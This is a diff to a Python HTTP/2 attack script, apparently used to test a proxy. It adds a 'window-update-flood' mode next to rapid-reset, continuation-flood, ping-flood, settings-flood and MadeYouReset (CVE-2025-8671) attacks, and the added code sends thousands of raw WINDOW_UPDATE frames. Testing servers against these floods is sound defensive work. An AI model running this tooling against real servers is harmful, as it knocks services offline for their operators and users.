@@ -3,7 +3,7 @@ python3-h2 builds the frames; some are written byte by byte).
 
   h2_attack.py ATTACK HOST:PORT
 
-ATTACK is one of rapid-reset, continuation-flood, ping-flood, settings-flood,
+ATTACK is one of rapid-reset, continuation-flood, ping-flood, window-update-flood, settings-flood,
 big-headers, too-many-streams, table-size, silent (a client that never
 answers PINGs: prints how long until the proxy closed it), and the
 MadeYouReset variants (streams the proxy must reset itself, CVE-2025-8671):
@@ -174,6 +174,14 @@ def main():
         try:
             for i in range(5000):
                 s.sendall(frame(0x6, 0x0, 0, struct.pack(">Q", i)))
+        except OSError:
+            pass
+    elif attack == "window-update-flood":
+        # WINDOW_UPDATE +1 on the connection, for data never received:
+        # 5000 of them (an increment of 1 takes 2^31 to overflow).
+        try:
+            for i in range(50):
+                s.sendall(frame(0x8, 0x0, 0, struct.pack(">I", 1)) * 100)
         except OSError:
             pass
     elif attack == "settings-flood":
